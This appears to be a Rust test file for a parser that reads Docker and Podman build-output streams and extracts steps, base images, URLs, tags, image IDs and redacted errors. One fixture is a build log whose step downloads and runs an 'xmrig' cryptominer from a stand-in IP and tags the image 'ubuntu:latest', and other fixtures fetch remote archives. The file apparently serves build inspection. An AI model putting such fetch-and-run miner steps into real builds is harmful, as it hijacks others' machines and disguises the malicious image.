use std::collections::BTreeMap;

use tw_model::Secrets;

use super::{AnswerFacts, AnswerReader};

fn read(bytes: &[u8]) -> AnswerFacts {
    read_in_pieces(bytes, bytes.len().max(1))
}

fn read_in_pieces(bytes: &[u8], size: usize) -> AnswerFacts {
    let mut reader = AnswerReader::new(BTreeMap::new(), Secrets::Redact);
    bytes.chunks(size).for_each(|piece| reader.push(piece));
    reader.finish()
}

const DOCKER: &str = concat!(
    "{\"stream\":\"Step 1/3 : FROM alpine:3.18\"}\r\n",
    "{\"stream\":\"\\n\"}\r\n",
    "{\"stream\":\" ---\\u003e dc42f3f6600a\\n\"}\r\n",
    "{\"stream\":\"Step 2/3 : RUN wget -q -O /tmp/x http://203.0.113.77/xmrig \\u0026\\u0026 chmod +x /tmp/x\"}\r\n",
    "{\"stream\":\" ---\\u003e Running in 03e9f251e83e\\n\"}\r\n",
    "{\"stream\":\"Removing intermediate container 03e9f251e83e\\n\"}\r\n",
    "{\"stream\":\"Step 3/3 : CMD [\\\"/tmp/x\\\"]\"}\r\n",
    "{\"stream\":\" ---\\u003e Running in 132812b2ce61\\n\"}\r\n",
    "{\"aux\":{\"ID\":\"sha256:7e09446e19599751dbbd6ee3dc8b9bf8ce2009781eb10b4d269b99b8e8b20a37\"}}\r\n",
    "{\"stream\":\"Successfully built 7e09446e1959\\n\"}\r\n",
    "{\"stream\":\"Successfully tagged ubuntu:latest\\n\"}\r\n",
);

const PODMAN: &str = concat!(
    "{\"stream\":\"STEP 1/3: FROM docker.io/library/alpine:3.18\\n\"}\n",
    "{\"stream\":\"STEP 2/3: LABEL team=ops\\n\"}\n",
    "{\"stream\":\"STEP 3/3: RUN sleep 1; wget -q -O /srv http://203.0.113.119/s.tgz\\n\"}\n",
    "{\"stream\":\"COMMIT localhost/ops/job:2\\n\"}\n",
    "{\"stream\":\"--\\u003e 1cdeacea5de\\n\"}\n",
    "{\"stream\":\"Successfully tagged localhost/ops/job:2\\n\"}\n",
    "{\"stream\":\"1cdeacea5dea1e111886e0d77421b9293ada1baa8ab6070a6f40433deff4d57a\\n\"}\n",
);

#[test]
fn docker_answer() {
    let facts = read(DOCKER.as_bytes());
    assert_eq!(
        facts.steps,
        [
            "FROM alpine:3.18",
            "RUN wget -q -O /tmp/x http://203.0.113.77/xmrig && chmod +x /tmp/x",
            "CMD [\"/tmp/x\"]"
        ]
    );
    assert_eq!(facts.base_images, ["alpine:3.18"]);
    assert_eq!(facts.urls, ["http://203.0.113.77/xmrig"]);
    assert_eq!(facts.step_containers, ["03e9f251e83e", "132812b2ce61"]);
    assert_eq!(facts.tags, ["ubuntu:latest"]);
    assert_eq!(
        facts.image_id.as_deref(),
        Some("sha256:7e09446e19599751dbbd6ee3dc8b9bf8ce2009781eb10b4d269b99b8e8b20a37")
    );
    assert!(facts.saw_end && facts.error.is_none() && facts.malformed_lines == 0);
}

#[test]
fn podman_answer() {
    let facts = read(PODMAN.as_bytes());
    assert_eq!(facts.steps.len(), 3);
    assert_eq!(facts.base_images, ["docker.io/library/alpine:3.18"]);
    assert_eq!(facts.urls, ["http://203.0.113.119/s.tgz"]);
    assert_eq!(facts.tags, ["localhost/ops/job:2"]);
    assert_eq!(
        facts.image_id.as_deref(),
        Some("sha256:1cdeacea5dea1e111886e0d77421b9293ada1baa8ab6070a6f40433deff4d57a")
    );
    let staged = read(b"{\"stream\":\"[1/2] STEP 1/2: FROM a AS b\\n\"}\n{\"stream\":\"[2/2] STEP 1/1: FROM b\\n\"}");
    assert_eq!(staged.steps, ["FROM a AS b", "FROM b"]);
    assert_eq!(staged.base_images, ["a"]);
}

#[test]
fn any_pieces_give_the_same() {
    for text in
        [DOCKER, PODMAN, "{\"stream\":\"Step 1/1 : FROM \u{e9}\"}{\"error\":\"x\"}", "\u{fffd}{"]
    {
        let whole = read(text.as_bytes());
        for size in 1..40 {
            assert_eq!(read_in_pieces(text.as_bytes(), size), whole);
        }
    }
}

#[test]
fn other_answers() {
    let import = read(b"{\"status\":\"Downloading from http://203.0.113.9/r.tar\"}\n{\"status\":\"sha256:7e09446e19599751dbbd6ee3dc8b9bf8ce2009781eb10b4d269b99b8e8b20a37\"}\n");
    assert_eq!(import.urls, ["http://203.0.113.9/r.tar"]);
    assert!(import.image_id.is_some() && import.saw_end);
    let load = read(b"{\"stream\":\"Loaded image: evil:1\\n\"}\n");
    assert_eq!((load.loaded, load.saw_end), (vec!["evil:1".to_owned()], true));
    let commit = read(
        b"{\"Id\":\"sha256:7e09446e19599751dbbd6ee3dc8b9bf8ce2009781eb10b4d269b99b8e8b20a37\"}",
    );
    assert!(commit.image_id.is_some());
    let quiet = read(b"{\"stream\":\"sha256:7e09446e19599751dbbd6ee3dc8b9bf8ce2009781eb10b4d269b99b8e8b20a37\\n\"}");
    assert!(quiet.image_id.is_some());
    let pull = read(b"{\"status\":\"Digest: sha256:ab\"}\n");
    assert_eq!(pull.status_digest.as_deref(), Some("sha256:ab"));
    let remote = read(
        b"{\"status\":\"http://203.0.113.79/Dockerfile\",\"id\":\"Downloading context\"}\r\n{}\r\n",
    );
    assert_eq!(remote.urls, ["http://203.0.113.79/Dockerfile"]);
    assert!(!remote.saw_end);
}

#[test]
fn error_is_told_without_its_secrets() {
    let facts = read(b"{\"errorDetail\":{\"code\":1,\"message\":\"curl http://u:hunter2@h/ failed\"},\"error\":\"x\"}\n");
    let error = facts.error.unwrap();
    assert!(error.ends_with("@h/ failed") && !error.contains("hunter2"), "{error}");
    assert!(facts.saw_end);
    assert_eq!(read(b"{\"message\":\"no such image\"}").error.as_deref(), Some("no such image"));
}

#[test]
fn build_arguments_and_args_reach_the_steps() {
    let text = b"{\"stream\":\"Step 1/4 : ARG T=3\"}\n{\"stream\":\"Step 2/4 : FROM a:$T\"}\n{\"stream\":\"Step 3/4 : ARG H\"}\n{\"stream\":\"Step 4/4 : RUN wget http://$H/x\"}\n";
    let args = BTreeMap::from([("H".to_owned(), "203.0.113.9".to_owned())]);
    let mut reader = AnswerReader::new(args, Secrets::Redact);
    reader.push(text);
    let facts = reader.finish();
    assert_eq!(facts.base_images, ["a:3"]);
    assert_eq!(facts.urls, ["http://203.0.113.9/x"]);
}

#[test]
fn what_a_step_prints_does_not_replace_the_id() {
    let text = format!(
        "{DOCKER}{}",
        "{\"stream\":\"Successfully built 000000000000\\n\"}\n{\"stream\":\"Step x : RUN no\"}\n{\"stream\":\"1cdeacea5dea1e111886e0d77421b9293ada1baa8ab6070a6f40433deff4d57a\\n\"}\n"
    );
    let facts = read(text.as_bytes());
    assert!(facts.image_id.unwrap().starts_with("sha256:7e09446e1959"));
    assert_eq!(facts.steps.len(), 3);
}

#[test]
fn gap_leaves_out_one_line() {
    let mut reader = AnswerReader::new(BTreeMap::new(), Secrets::Redact);
    reader.push(b"{\"stream\":\"Step 1/3 : FROM a\"}\n{\"stream\":\"Step 2/3 : RUN wge");
    reader.gap(10);
    reader.push(b"p://h.example/\"}\n{\"stream\":\"Step 3/3 : CMD x\"}\n");
    let facts = reader.finish();
    assert_eq!(facts.steps, ["FROM a", "CMD x"]);
    assert!(facts.gap && facts.malformed_lines == 0);
}

#[test]
fn buildkit_traces_are_handed_on() {
    let text = b"{\"id\":\"moby.buildkit.trace\",\"aux\":\"Cgdtb2J5\"}\n{\"id\":\"moby.buildkit.trace\",\"aux\":\"!\"}\n{\"id\":\"moby.image.id\",\"aux\":{\"ID\":\"sha256:7e09446e19599751dbbd6ee3dc8b9bf8ce2009781eb10b4d269b99b8e8b20a37\"}}\n";
    for size in [1, 7, text.len()] {
        let mut reader = AnswerReader::new(BTreeMap::new(), Secrets::Redact);
        let mut traces = Vec::new();
        text.chunks(size).for_each(|p| reader.push_with(p, &mut |t| traces.push(t.to_vec())));
        assert_eq!(traces, [b"\x0a\x07moby"]);
        let facts = reader.finish();
        assert_eq!(facts.buildkit_traces, 2);
        assert!(facts.image_id.is_some());
    }
}

#[test]
fn hostile_answers_are_bounded() {
    for text in [
        "{\"stream\":\"Step 1/1 : RUN x\"}\n".repeat(50_000),
        format!("{{\"stream\":\"Step 1/1 : RUN {}\"}}\n", "x".repeat(2 << 20)),
        "[".repeat(500_000),
        "\n".repeat(1 << 20),
        "{}".repeat(200_000),
        "{\"stream\":\" ---> Running in 0123456789ab\"}\n".repeat(10_000),
        (0..5000).map(|n| format!("{{\"stream\":\"Successfully tagged t{n}\"}}\n")).collect(),
        "{\"stream\":5,\"aux\":[],\"error\":{},\"id\":null}\n\"x\"\n1\nnull\n".to_owned(),
        "{\"stream\":\"Step 1/1 : \"}\n{\"stream\":\"Step 1/1 : RUN a\\nFROM b\"}\n".to_owned(),
    ] {
        let facts = read(text.as_bytes());
        assert!(facts.steps.len() <= 10_000 && facts.tags.len() <= 1000);
    }
}
